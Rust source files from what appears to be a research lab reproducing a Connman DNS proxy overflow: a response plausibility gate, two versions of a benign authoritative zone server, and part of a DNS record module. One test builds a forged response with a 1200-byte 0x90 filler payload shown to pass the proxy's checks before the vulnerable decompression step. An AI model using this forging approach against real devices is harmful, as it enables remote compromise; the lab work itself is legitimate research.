            ResponseRejection::BadHeader(e) | ResponseRejection::BadQuestion(e) => Some(e),
            _ => None,
        }
    }
}

/// Result of a successful gate check: the parsed header and the offset at
/// which the answer section begins (where the vulnerable decompression
/// starts reading).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GateReport {
    /// The decoded header.
    pub header: Header,
    /// Byte offset of the first answer record.
    pub answers_offset: usize,
}

/// Applies the proxy's pre-parse plausibility checks to raw response
/// bytes, without touching the answer section.
///
/// On success the caller knows the packet *looks* legitimate and may hand
/// its answer section to the (possibly vulnerable) record parser.
///
/// # Errors
///
/// Returns the first [`ResponseRejection`] encountered, mirroring the
/// order of checks in `dnsproxy.c`.
pub fn gate_response(query: &Message, bytes: &[u8]) -> Result<GateReport, ResponseRejection> {
    let mut r = WireReader::new(bytes);
    let header = Header::decode(&mut r).map_err(ResponseRejection::BadHeader)?;
    if !header.response {
        return Err(ResponseRejection::NotAResponse);
    }
    if header.id != query.id() {
        return Err(ResponseRejection::IdMismatch {
            expected: query.id(),
            found: header.id,
        });
    }
    if header.opcode != Opcode::Query {
        return Err(ResponseRejection::BadOpcode(header.opcode));
    }
    if header.rcode != Rcode::NoError {
        return Err(ResponseRejection::ErrorRcode(header.rcode));
    }
    if header.qdcount as usize != query.questions().len() {
        return Err(ResponseRejection::QuestionMismatch);
    }
    for expected in query.questions() {
        let q = Question::decode(&mut r).map_err(ResponseRejection::BadQuestion)?;
        if !q.qname().eq_ignore_case(expected.qname())
            || q.qtype() != expected.qtype()
            || q.qclass() != expected.qclass()
        {
            return Err(ResponseRejection::QuestionMismatch);
        }
    }
    if header.ancount == 0 {
        return Err(ResponseRejection::NoAnswers);
    }
    Ok(GateReport {
        header,
        answers_offset: r.position(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forge::ResponseForge;
    use crate::name::Name;
    use crate::record::RecordType;

    fn query() -> Message {
        Message::query(
            0x1111,
            Question::new(Name::parse("ntp.pool.example").unwrap(), RecordType::A),
        )
    }

    fn forged(q: &Message) -> Vec<u8> {
        ResponseForge::answering(q)
            .with_chunked_payload(&[0x90; 1200])
            .unwrap()
            .build()
            .unwrap()
    }

    #[test]
    fn forged_overflow_passes_the_gate() {
        let q = query();
        let report = gate_response(&q, &forged(&q)).unwrap();
        assert_eq!(report.header.ancount, 1);
        // header + name(18) + type + class = 12 + 18 + 4
        assert_eq!(
            report.answers_offset,
            12 + q.questions()[0].qname().wire_len() + 4
        );
    }

    #[test]
    fn id_mismatch_rejected() {
        let q = query();
        let other = Message::query(0x2222, q.questions()[0].clone());
        let bytes = forged(&other);
        assert_eq!(
            gate_response(&q, &bytes),
            Err(ResponseRejection::IdMismatch {
                expected: 0x1111,
                found: 0x2222
            })
        );
    }

    #[test]
    fn query_bit_rejected() {
        let q = query();
        let bytes = q.encode().unwrap();
        assert_eq!(
            gate_response(&q, &bytes),
            Err(ResponseRejection::NotAResponse)
        );
    }

    #[test]
    fn question_mismatch_rejected() {
        let q = query();
        let other = Message::query(
            0x1111,
            Question::new(Name::parse("other.example").unwrap(), RecordType::A),
        );
        let bytes = forged(&other);
        assert_eq!(
            gate_response(&q, &bytes),
            Err(ResponseRejection::QuestionMismatch)
        );
    }

    #[test]
    fn error_rcode_rejected() {
        let q = query();
        let mut bytes = forged(&q);
        bytes[3] |= 0x03; // NXDOMAIN
        assert_eq!(
            gate_response(&q, &bytes),
            Err(ResponseRejection::ErrorRcode(Rcode::NxDomain))
        );
    }

    #[test]
    fn no_answers_rejected() {
        let q = query();
        let resp = Message::response_to(&q);
        let bytes = resp.encode().unwrap();
        assert_eq!(gate_response(&q, &bytes), Err(ResponseRejection::NoAnswers));
    }

    #[test]
    fn short_packet_rejected() {
        let q = query();
        assert!(matches!(
            gate_response(&q, &[0u8; 4]),
            Err(ResponseRejection::BadHeader(_))
        ));
    }

    #[test]
    fn case_insensitive_question_echo_accepted() {
        let q = query();
        let upper = Message::query(
            0x1111,
            Question::new(Name::parse("NTP.Pool.Example").unwrap(), RecordType::A),
        );
        let bytes = forged(&upper);
        assert!(gate_response(&q, &bytes).is_ok());
    }
}
