//! A tiny authoritative zone and server — the *benign* side of the lab.
//!
//! The malicious server lives in `cml-exploit`; this one answers
//! honestly from configured records, so the legitimate access point in
//! the remote experiments serves real-looking traffic (and control-group
//! devices work normally).

use std::collections::HashMap;
use std::net::{Ipv4Addr, Ipv6Addr};

use crate::header::Rcode;
use crate::message::Message;
use crate::name::Name;
use crate::record::{Record, RecordData, RecordType};
use crate::wire::WireBuf;

/// An in-memory zone: records keyed by lower-cased name and type.
///
/// A zone may carry NS records below its origin; those express
/// *delegation*, and [`Zone::delegation`] finds the referral (NS set
/// plus glue addresses) a query outside the zone's own data should be
/// bounced to. NS records *at* the origin are the zone's own apex set,
/// never a referral.
#[derive(Debug, Clone, Default)]
pub struct Zone {
    records: HashMap<(String, RecordType), Vec<Record>>,
    origin: Option<Name>,
}

fn key_of(name: &Name, rtype: RecordType) -> (String, RecordType) {
    (name.to_string().to_ascii_lowercase(), rtype)
}

impl Zone {
    /// An empty zone.
    pub fn new() -> Self {
        Zone::default()
    }

    /// An empty zone rooted at `origin` (e.g. `"com"` for a TLD server,
    /// `""` for the root). The origin marks where the zone's own
    /// authority starts: NS records *below* it are delegations, NS
    /// records *at* it are the apex set.
    ///
    /// # Panics
    ///
    /// Panics on an unparsable origin; zone origins are static strings.
    pub fn rooted(origin: &str) -> Self {
        Zone {
            records: HashMap::new(),
            origin: Some(Name::parse(origin).expect("zone origins are static and valid")),
        }
    }

    /// The zone's origin, if one was declared.
    pub fn origin(&self) -> Option<&Name> {
        self.origin.as_ref()
    }

    /// Adds a record.
    pub fn insert(&mut self, record: Record) -> &mut Self {
        let key = key_of(record.name(), record.rtype());
        self.records.entry(key).or_default().push(record);
        self
    }

    /// Convenience: adds an A record.
    pub fn a(&mut self, name: &str, ttl: u32, addr: Ipv4Addr) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::A(addr)))
    }

    /// Convenience: adds an AAAA record.
    pub fn aaaa(&mut self, name: &str, ttl: u32, addr: Ipv6Addr) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::Aaaa(addr)))
    }

    /// Convenience: adds a CNAME record.
    pub fn cname(&mut self, name: &str, ttl: u32, target: &str) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        let target = Name::parse(target).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::Cname(target)))
    }

    /// Convenience: adds an NS record delegating `name` to `nameserver`.
    /// Pair with [`a`](Self::a) records for the nameserver's own name to
    /// provide glue.
    pub fn ns(&mut self, name: &str, ttl: u32, nameserver: &str) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        let ns = Name::parse(nameserver).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::Ns(ns)))
    }

    /// Finds the deepest delegation covering `qname`: walks from the
    /// query name up through its ancestors (stopping at the zone
    /// origin, whose NS set is the apex, not a cut) and returns the
    /// first NS set found together with its glue — the A/AAAA records
    /// this zone holds for the delegated nameservers.
    pub fn delegation(&self, qname: &Name) -> Option<(Vec<Record>, Vec<Record>)> {
        let mut cut = Some(qname.clone());
        while let Some(name) = cut {
            if self.origin.as_ref().is_some_and(|o| name.eq_ignore_case(o)) {
                return None;
            }
            let ns_set = self
                .records
                .get(&key_of(&name, RecordType::Ns))
                .filter(|r| !r.is_empty());
            if let Some(ns_set) = ns_set {
                let mut glue = Vec::new();
                for ns in ns_set {
                    if let RecordData::Ns(target) = ns.data() {
                        for rtype in [RecordType::A, RecordType::Aaaa] {
                            if let Some(addrs) = self.records.get(&key_of(target, rtype)) {
                                glue.extend(addrs.iter().cloned());
                            }
                        }
                    }
                }
                return Some((ns_set.clone(), glue));
            }
            cut = name.parent();
        }
        None
    }

    /// Looks records up, following at most `depth` CNAME links.
    pub fn lookup(&self, name: &Name, rtype: RecordType) -> Vec<Record> {
        let mut out = Vec::new();
        let mut current = name.clone();
        for _ in 0..=4 {
            if let Some(records) = self.records.get(&key_of(&current, rtype)) {
                out.extend(records.iter().cloned());
                return out;
            }
            match self.records.get(&key_of(&current, RecordType::Cname)) {
                Some(cnames) => {
                    out.extend(cnames.iter().cloned());
                    match cnames.first().map(Record::data) {
                        Some(RecordData::Cname(target)) => current = target.clone(),
                        _ => return out,
                    }
                }
                None => return out,
            }
        }
        out
    }

    /// Number of record sets.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the zone has no records.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

/// A request/response server over a [`Zone`].
#[derive(Debug, Clone, Default)]
pub struct ZoneServer {
    zone: Zone,
    queries_answered: u64,
    queries_nxdomain: u64,
    queries_referred: u64,
}

impl ZoneServer {
    /// Serves the given zone.
    pub fn new(zone: Zone) -> Self {
        ZoneServer {
            zone,
            queries_answered: 0,
            queries_nxdomain: 0,
            queries_referred: 0,
        }
    }

    /// The zone being served.
    pub fn zone(&self) -> &Zone {
        &self.zone
    }

    /// (answered, nxdomain) counters.
    pub fn stats(&self) -> (u64, u64) {
        (self.queries_answered, self.queries_nxdomain)
    }

    /// Queries bounced with a referral (NS records in the authority
    /// section, glue in the additional section).
    pub fn referrals(&self) -> u64 {
        self.queries_referred
    }

    /// Handles one datagram: decodes the query, answers from the zone,
    /// refers queries under a delegation cut to the delegated
    /// nameservers (NS in the authority section, glue addresses in the
    /// additional section), returns `NXDOMAIN` for unknown names, drops
    /// undecodable input.
    pub fn handle(&mut self, query_bytes: &[u8]) -> Option<Vec<u8>> {
        let mut out = WireBuf::new();
        if self.handle_into(query_bytes, &mut out) {
            Some(out.into_vec())
        } else {
            None
        }
    }

    /// [`handle`](Self::handle) through the pooled encode path:
    /// replaces `out`'s contents with the response (keeping its
    /// capacity, so a warm buffer encodes without allocating for the
    /// response bytes) and returns `true`, or returns `false` when the
    /// packet is dropped.
    pub fn handle_into(&mut self, query_bytes: &[u8], out: &mut WireBuf) -> bool {
        let query = match Message::decode(query_bytes) {
            Ok(q) if !q.is_response() && !q.questions().is_empty() => q,
            _ => return false,
        };
        let q = &query.questions()[0];
        let records = self.zone.lookup(q.qname(), q.qtype());
        let mut resp = Message::response_to(&query);
        if !records.is_empty() {
            for r in records {
                resp.push_answer(r);
            }
            self.queries_answered += 1;
        } else if let Some((ns_set, glue)) = self.zone.delegation(q.qname()) {
            for ns in ns_set {
                resp.push_authority(ns);
            }
            for g in glue {
                resp.push_additional(g);
            }
            self.queries_referred += 1;
        } else {
            resp.set_rcode(Rcode::NxDomain);
            self.queries_nxdomain += 1;
        }
        resp.encode_into(out).is_ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::question::Question;

    fn server() -> ZoneServer {
        let mut zone = Zone::new();
        zone.a("cloud.vendor.example", 300, Ipv4Addr::new(203, 0, 113, 7))
            .a("cloud.vendor.example", 300, Ipv4Addr::new(203, 0, 113, 8))
            .aaaa("cloud.vendor.example", 300, "2001:db8::7".parse().unwrap())
            .cname("www.vendor.example", 600, "cloud.vendor.example");
        ZoneServer::new(zone)
    }

    fn ask(s: &mut ZoneServer, host: &str, rtype: RecordType) -> Message {
        let q = Message::query(9, Question::new(Name::parse(host).unwrap(), rtype));
        let resp = s.handle(&q.encode().unwrap()).expect("responds");
        Message::decode(&resp).unwrap()
    }

    #[test]
    fn answers_from_zone() {
        let mut s = server();
        let m = ask(&mut s, "cloud.vendor.example", RecordType::A);
        assert_eq!(m.answers().len(), 2);
        assert_eq!(m.header().rcode, Rcode::NoError);
    }

    #[test]
    fn follows_cnames() {
        let mut s = server();
        let m = ask(&mut s, "www.vendor.example", RecordType::A);
        // CNAME + the two A records behind it.
        assert_eq!(m.answers().len(), 3);
        assert_eq!(m.answers()[0].rtype(), RecordType::Cname);
    }

    #[test]
    fn nxdomain_for_unknown() {
        let mut s = server();
        let m = ask(&mut s, "ghost.example", RecordType::A);
        assert_eq!(m.header().rcode, Rcode::NxDomain);
        assert!(m.answers().is_empty());
        assert_eq!(s.stats(), (0, 1));
    }

    #[test]
    fn case_insensitive_lookup() {
        let mut s = server();
        let m = ask(&mut s, "CLOUD.Vendor.EXAMPLE", RecordType::A);
        assert_eq!(m.answers().len(), 2);
    }

    #[test]
    fn drops_garbage() {
        let mut s = server();
        assert!(s.handle(&[1, 2, 3]).is_none());
    }

    fn tld_server() -> ZoneServer {
        // A "com" TLD zone delegating vendor.example-style children:
        // NS cuts below the origin plus in-bailiwick glue.
        let mut zone = Zone::rooted("com");
        zone.ns("vendor.com", 86400, "ns1.vendor.com")
            .ns("vendor.com", 86400, "ns2.vendor.com")
            .a("ns1.vendor.com", 86400, Ipv4Addr::new(198, 51, 100, 1))
            .a("ns2.vendor.com", 86400, Ipv4Addr::new(198, 51, 100, 2))
            .aaaa("ns1.vendor.com", 86400, "2001:db8::53".parse().unwrap())
            .ns("com", 86400, "a.gtld.example");
        ZoneServer::new(zone)
    }

    #[test]
    fn referral_carries_ns_and_glue() {
        let mut s = tld_server();
        let m = ask(&mut s, "www.vendor.com", RecordType::A);
        assert_eq!(m.header().rcode, Rcode::NoError);
        assert!(m.answers().is_empty(), "a referral answers nothing");
        assert_eq!(m.authorities().len(), 2);
        assert!(m
            .authorities()
            .iter()
            .all(|r| r.rtype() == RecordType::Ns && r.name().to_string() == "vendor.com"));
        // Glue: both nameservers' A records plus ns1's AAAA.
        assert_eq!(m.additionals().len(), 3);
        assert_eq!(s.referrals(), 1);
        assert_eq!(s.stats(), (0, 0));
    }

    #[test]
    fn apex_ns_is_not_a_referral() {
        let mut s = tld_server();
        // The origin's own NS set is an answer when asked for directly…
        let m = ask(&mut s, "com", RecordType::Ns);
        assert_eq!(m.answers().len(), 1);
        // …and a miss at the apex is NXDOMAIN, not a self-referral.
        let m = ask(&mut s, "com", RecordType::A);
        assert_eq!(m.header().rcode, Rcode::NxDomain);
        assert!(m.authorities().is_empty());
    }

    #[test]
    fn delegation_finds_deepest_cut_case_insensitively() {
        let zone = {
            let mut z = Zone::rooted("com");
            z.ns("vendor.com", 60, "ns1.vendor.com").a(
                "ns1.vendor.com",
                60,
                Ipv4Addr::new(198, 51, 100, 1),
            );
            z
        };
        let q = Name::parse("Deep.Sub.VENDOR.Com").unwrap();
        let (ns_set, glue) = zone.delegation(&q).expect("covered by the cut");
        assert_eq!(ns_set.len(), 1);
        assert_eq!(glue.len(), 1);
        assert!(zone
            .delegation(&Name::parse("other.org").unwrap())
            .is_none());
    }

    #[test]
    fn referral_roundtrips_through_pooled_encode_path() {
        use crate::wire::BufPool;
        let q = Message::query(
            77,
            Question::new(Name::parse("www.vendor.com").unwrap(), RecordType::A),
        )
        .encode()
        .unwrap();
        let mut s = tld_server();
        let via_handle = s.handle(&q).expect("responds");

        let mut pool = BufPool::new();
        let mut buf = pool.checkout();
        let mut s2 = tld_server();
        assert!(s2.handle_into(&q, &mut buf));
        assert_eq!(buf.as_bytes(), &via_handle[..], "pooled path is identical");

        // Round-trip: the decoded referral re-encodes to the same bytes
        // through a *warm* pooled buffer without growing it.
        let decoded = Message::decode(buf.as_bytes()).unwrap();
        assert_eq!(decoded.authorities().len(), 2);
        assert_eq!(decoded.additionals().len(), 3);
        let warm_cap = buf.as_mut_vec().capacity();
        decoded.encode_into(&mut buf).unwrap();
        assert_eq!(buf.as_bytes(), &via_handle[..]);
        assert_eq!(buf.as_mut_vec().capacity(), warm_cap, "warm buffer reused");
        pool.checkin(buf);
    }

    #[test]
    fn cname_loop_bounded() {
        let mut zone = Zone::new();
        zone.cname("a.example", 60, "b.example");
        zone.cname("b.example", 60, "a.example");
        let mut s = ZoneServer::new(zone);
        // Must terminate (bounded follow), answering with the CNAME chain.
        let m = ask(&mut s, "a.example", RecordType::A);
        assert!(m.answers().len() <= 12);
    }
}
