//! A tiny authoritative zone and server — the *benign* side of the lab.
//!
//! The malicious server lives in `cml-exploit`; this one answers
//! honestly from configured records, so the legitimate access point in
//! the remote experiments serves real-looking traffic (and control-group
//! devices work normally).

use std::collections::HashMap;
use std::net::{Ipv4Addr, Ipv6Addr};

use crate::header::Rcode;
use crate::message::Message;
use crate::name::Name;
use crate::record::{Record, RecordData, RecordType};

/// An in-memory zone: records keyed by lower-cased name and type.
#[derive(Debug, Clone, Default)]
pub struct Zone {
    records: HashMap<(String, RecordType), Vec<Record>>,
}

fn key_of(name: &Name, rtype: RecordType) -> (String, RecordType) {
    (name.to_string().to_ascii_lowercase(), rtype)
}

impl Zone {
    /// An empty zone.
    pub fn new() -> Self {
        Zone::default()
    }

    /// Adds a record.
    pub fn insert(&mut self, record: Record) -> &mut Self {
        let key = key_of(record.name(), record.rtype());
        self.records.entry(key).or_default().push(record);
        self
    }

    /// Convenience: adds an A record.
    pub fn a(&mut self, name: &str, ttl: u32, addr: Ipv4Addr) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::A(addr)))
    }

    /// Convenience: adds an AAAA record.
    pub fn aaaa(&mut self, name: &str, ttl: u32, addr: Ipv6Addr) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::Aaaa(addr)))
    }

    /// Convenience: adds a CNAME record.
    pub fn cname(&mut self, name: &str, ttl: u32, target: &str) -> &mut Self {
        let name = Name::parse(name).expect("zone names are static and valid");
        let target = Name::parse(target).expect("zone names are static and valid");
        self.insert(Record::new(name, ttl, RecordData::Cname(target)))
    }

    /// Looks records up, following at most `depth` CNAME links.
    pub fn lookup(&self, name: &Name, rtype: RecordType) -> Vec<Record> {
        let mut out = Vec::new();
        let mut current = name.clone();
        for _ in 0..=4 {
            if let Some(records) = self.records.get(&key_of(&current, rtype)) {
                out.extend(records.iter().cloned());
                return out;
            }
            match self.records.get(&key_of(&current, RecordType::Cname)) {
                Some(cnames) => {
                    out.extend(cnames.iter().cloned());
                    match cnames.first().map(Record::data) {
                        Some(RecordData::Cname(target)) => current = target.clone(),
                        _ => return out,
                    }
                }
                None => return out,
            }
        }
        out
    }

    /// Number of record sets.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the zone has no records.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

/// A request/response server over a [`Zone`].
#[derive(Debug, Clone, Default)]
pub struct ZoneServer {
    zone: Zone,
    queries_answered: u64,
    queries_nxdomain: u64,
}

impl ZoneServer {
    /// Serves the given zone.
    pub fn new(zone: Zone) -> Self {
        ZoneServer {
            zone,
            queries_answered: 0,
            queries_nxdomain: 0,
        }
    }

    /// The zone being served.
    pub fn zone(&self) -> &Zone {
        &self.zone
    }

    /// (answered, nxdomain) counters.
    pub fn stats(&self) -> (u64, u64) {
        (self.queries_answered, self.queries_nxdomain)
    }

    /// Handles one datagram: decodes the query, answers from the zone,
    /// returns `NXDOMAIN` for unknown names, drops undecodable input.
    pub fn handle(&mut self, query_bytes: &[u8]) -> Option<Vec<u8>> {
        let query = match Message::decode(query_bytes) {
            Ok(q) if !q.is_response() && !q.questions().is_empty() => q,
            _ => return None,
        };
        let q = &query.questions()[0];
        let records = self.zone.lookup(q.qname(), q.qtype());
        let mut resp = Message::response_to(&query);
        if records.is_empty() {
            resp.set_rcode(Rcode::NxDomain);
            self.queries_nxdomain += 1;
        } else {
            for r in records {
                resp.push_answer(r);
            }
            self.queries_answered += 1;
        }
        resp.encode().ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::question::Question;

    fn server() -> ZoneServer {
        let mut zone = Zone::new();
        zone.a("cloud.vendor.example", 300, Ipv4Addr::new(203, 0, 113, 7))
            .a("cloud.vendor.example", 300, Ipv4Addr::new(203, 0, 113, 8))
            .aaaa("cloud.vendor.example", 300, "2001:db8::7".parse().unwrap())
            .cname("www.vendor.example", 600, "cloud.vendor.example");
        ZoneServer::new(zone)
    }

    fn ask(s: &mut ZoneServer, host: &str, rtype: RecordType) -> Message {
        let q = Message::query(9, Question::new(Name::parse(host).unwrap(), rtype));
        let resp = s.handle(&q.encode().unwrap()).expect("responds");
        Message::decode(&resp).unwrap()
    }

    #[test]
    fn answers_from_zone() {
        let mut s = server();
        let m = ask(&mut s, "cloud.vendor.example", RecordType::A);
        assert_eq!(m.answers().len(), 2);
        assert_eq!(m.header().rcode, Rcode::NoError);
    }

    #[test]
    fn follows_cnames() {
        let mut s = server();
        let m = ask(&mut s, "www.vendor.example", RecordType::A);
        // CNAME + the two A records behind it.
        assert_eq!(m.answers().len(), 3);
        assert_eq!(m.answers()[0].rtype(), RecordType::Cname);
    }

    #[test]
    fn nxdomain_for_unknown() {
        let mut s = server();
        let m = ask(&mut s, "ghost.example", RecordType::A);
        assert_eq!(m.header().rcode, Rcode::NxDomain);
        assert!(m.answers().is_empty());
        assert_eq!(s.stats(), (0, 1));
    }

    #[test]
    fn case_insensitive_lookup() {
        let mut s = server();
        let m = ask(&mut s, "CLOUD.Vendor.EXAMPLE", RecordType::A);
        assert_eq!(m.answers().len(), 2);
    }

    #[test]
    fn drops_garbage() {
        let mut s = server();
        assert!(s.handle(&[1, 2, 3]).is_none());
    }

    #[test]
    fn cname_loop_bounded() {
        let mut zone = Zone::new();
        zone.cname("a.example", 60, "b.example");
        zone.cname("b.example", 60, "a.example");
        let mut s = ZoneServer::new(zone);
        // Must terminate (bounded follow), answering with the CNAME chain.
        let m = ask(&mut s, "a.example", RecordType::A);
        assert!(m.answers().len() <= 12);
    }
}
