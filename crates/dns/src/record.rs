//! Resource records and their RDATA (RFC 1035 §3.2, RFC 3596).

use std::collections::HashMap;
use std::fmt;
use std::net::{Ipv4Addr, Ipv6Addr};

use crate::name::Name;
use crate::wire::{WireReader, WireWriter};
use crate::DnsError;

/// Record type (the TYPE/QTYPE field).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum RecordType {
    /// IPv4 host address (the paper's delivery vector).
    A,
    /// Authoritative name server.
    Ns,
    /// Canonical name alias.
    Cname,
    /// Start of authority.
    Soa,
    /// Domain name pointer (reverse lookups).
    Ptr,
    /// Mail exchange.
    Mx,
    /// Free-form text.
    Txt,
    /// IPv6 host address (the paper's alternate vector).
    Aaaa,
    /// Any other type, carried opaquely.
    Other(u16),
}

impl RecordType {
    /// Numeric wire value.
    pub fn to_u16(self) -> u16 {
        match self {
            RecordType::A => 1,
            RecordType::Ns => 2,
            RecordType::Cname => 5,
            RecordType::Soa => 6,
            RecordType::Ptr => 12,
            RecordType::Mx => 15,
            RecordType::Txt => 16,
            RecordType::Aaaa => 28,
            RecordType::Other(v) => v,
        }
    }

    /// Decodes the wire value.
    pub fn from_u16(v: u16) -> Self {
        match v {
            1 => RecordType::A,
            2 => RecordType::Ns,
            5 => RecordType::Cname,
            6 => RecordType::Soa,
            12 => RecordType::Ptr,
            15 => RecordType::Mx,
            16 => RecordType::Txt,
            28 => RecordType::Aaaa,
            other => RecordType::Other(other),
        }
    }

    /// Whether the simulated Connman proxy caches this type; the
    /// vulnerable decompression path is only reached for these
    /// (`dnsproxy.c` caches type A and AAAA).
    pub fn is_cached_by_connman(self) -> bool {
        matches!(self, RecordType::A | RecordType::Aaaa)
    }
}

impl fmt::Display for RecordType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            RecordType::A => "A",
            RecordType::Ns => "NS",
            RecordType::Cname => "CNAME",
            RecordType::Soa => "SOA",
            RecordType::Ptr => "PTR",
            RecordType::Mx => "MX",
            RecordType::Txt => "TXT",
            RecordType::Aaaa => "AAAA",
            RecordType::Other(v) => return write!(f, "TYPE{v}"),
        };
        f.write_str(s)
    }
}

/// Record class (the CLASS/QCLASS field).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RecordClass {
    /// The Internet class — the only one Connman forwards.
    In,
    /// Chaosnet.
    Ch,
    /// Hesiod.
    Hs,
    /// QCLASS `*`.
    Any,
    /// Anything else.
    Other(u16),
}

impl RecordClass {
    /// Numeric wire value.
    pub fn to_u16(self) -> u16 {
        match self {
            RecordClass::In => 1,
            RecordClass::Ch => 3,
            RecordClass::Hs => 4,
            RecordClass::Any => 255,
            RecordClass::Other(v) => v,
        }
    }

    /// Decodes the wire value.
    pub fn from_u16(v: u16) -> Self {
        match v {
            1 => RecordClass::In,
            3 => RecordClass::Ch,
            4 => RecordClass::Hs,
            255 => RecordClass::Any,
            other => RecordClass::Other(other),
        }
    }
}

impl fmt::Display for RecordClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            RecordClass::In => "IN",
            RecordClass::Ch => "CH",
            RecordClass::Hs => "HS",
            RecordClass::Any => "ANY",
            RecordClass::Other(v) => return write!(f, "CLASS{v}"),
        };
        f.write_str(s)
    }
}

/// Typed RDATA payload of a resource record.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum RecordData {
    /// IPv4 address.
    A(Ipv4Addr),
    /// IPv6 address.
    Aaaa(Ipv6Addr),
    /// Alias target.
    Cname(Name),
    /// Name-server host.
    Ns(Name),
    /// Reverse-pointer target.
    Ptr(Name),
    /// Mail exchange: preference and host.
    Mx {
        /// Lower is preferred.
        preference: u16,
        /// Exchange host name.
        exchange: Name,
    },
    /// Text strings, each at most 255 bytes.
    Txt(Vec<Vec<u8>>),
    /// Start of authority.
    Soa {
        /// Primary master name.
        mname: Name,
        /// Responsible mailbox.
        rname: Name,
        /// Zone serial.
        serial: u32,
        /// Refresh interval, seconds.
        refresh: u32,
        /// Retry interval, seconds.
        retry: u32,
        /// Expiry, seconds.
        expire: u32,
        /// Negative-caching TTL, seconds.
        minimum: u32,
    },
    /// Unparsed payload for unknown types.
    Opaque(Vec<u8>),
}

impl RecordData {
    /// The record type this payload corresponds to; `Opaque` reports the
    /// type it was decoded under via [`Record::rtype`], so here it maps to
    /// `Other(0)` and callers should prefer the record's own type field.
    pub fn natural_type(&self) -> RecordType {
        match self {
            RecordData::A(_) => RecordType::A,
            RecordData::Aaaa(_) => RecordType::Aaaa,
            RecordData::Cname(_) => RecordType::Cname,
            RecordData::Ns(_) => RecordType::Ns,
            RecordData::Ptr(_) => RecordType::Ptr,
            RecordData::Mx { .. } => RecordType::Mx,
            RecordData::Txt(_) => RecordType::Txt,
            RecordData::Soa { .. } => RecordType::Soa,
            RecordData::Opaque(_) => RecordType::Other(0),
        }
    }
}

/// A complete resource record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    name: Name,
    rtype: RecordType,
    class: RecordClass,
    ttl: u32,
    data: RecordData,
}

impl Record {
    /// Creates an `IN`-class record whose type is inferred from `data`.
    pub fn new(name: Name, ttl: u32, data: RecordData) -> Self {
        let rtype = data.natural_type();
        Record {
            name,
            rtype,
            class: RecordClass::In,
            ttl,
            data,
        }
    }

    /// Creates a record with explicit type and class (needed for opaque
    /// payloads).
    pub fn with_parts(
        name: Name,
        rtype: RecordType,
        class: RecordClass,
        ttl: u32,
        data: RecordData,
    ) -> Self {
        Record {
            name,
            rtype,
            class,
            ttl,
            data,
        }
    }

    /// The owner name.
    pub fn name(&self) -> &Name {
        &self.name
    }

    /// The record type.
    pub fn rtype(&self) -> RecordType {
        self.rtype
    }

    /// The record class.
    pub fn class(&self) -> RecordClass {
        self.class
    }

    /// Time-to-live in seconds.
    pub fn ttl(&self) -> u32 {
        self.ttl
    }

    /// The typed payload.
    pub fn data(&self) -> &RecordData {
        &self.data
    }

    /// Encodes the record, sharing name compression state.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode(
        &self,
        w: &mut WireWriter,
        offsets: &mut HashMap<Name, u16>,
    ) -> Result<(), DnsError> {
        self.name.encode_compressed(w, offsets)?;
        w.write_u16(self.rtype.to_u16())?;
        w.write_u16(self.class.to_u16())?;
        w.write_u32(self.ttl)?;
        // Reserve RDLENGTH, encode RDATA, patch the length in afterwards.
        let len_at = w.len();
        w.write_u16(0)?;
        let start = w.len();
        self.encode_rdata(w, offsets)?;
        let rdlen = w.len() - start;
        w.patch_u16(len_at, rdlen as u16);
        Ok(())
    }

    fn encode_rdata(
        &self,
        w: &mut WireWriter,
        offsets: &mut HashMap<Name, u16>,
    ) -> Result<(), DnsError> {
        match &self.data {
            RecordData::A(ip) => w.write_bytes(&ip.octets()),
            RecordData::Aaaa(ip) => w.write_bytes(&ip.octets()),
            RecordData::Cname(n) | RecordData::Ns(n) | RecordData::Ptr(n) => {
                n.encode_compressed(w, offsets)
            }
            RecordData::Mx {
                preference,
                exchange,
            } => {
                w.write_u16(*preference)?;
                exchange.encode_compressed(w, offsets)
            }
            RecordData::Txt(strings) => {
                for s in strings {
                    if s.len() > 255 {
                        return Err(DnsError::BadRdata {
                            rtype: RecordType::Txt.to_u16(),
                            detail: "txt string over 255 bytes",
                        });
                    }
                    w.write_u8(s.len() as u8)?;
                    w.write_bytes(s)?;
                }
                Ok(())
            }
            RecordData::Soa {
                mname,
                rname,
                serial,
                refresh,
                retry,
                expire,
                minimum,
            } => {
                mname.encode_compressed(w, offsets)?;
                rname.encode_compressed(w, offsets)?;
                w.write_u32(*serial)?;
                w.write_u32(*refresh)?;
                w.write_u32(*retry)?;
                w.write_u32(*expire)?;
                w.write_u32(*minimum)
            }
            RecordData::Opaque(bytes) => w.write_bytes(bytes),
        }
    }

    /// Decodes one record.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] on truncation, malformed names, or RDATA
    /// whose length disagrees with its type.
    pub fn decode(r: &mut WireReader<'_>) -> Result<Self, DnsError> {
        let name = Name::decode(r)?;
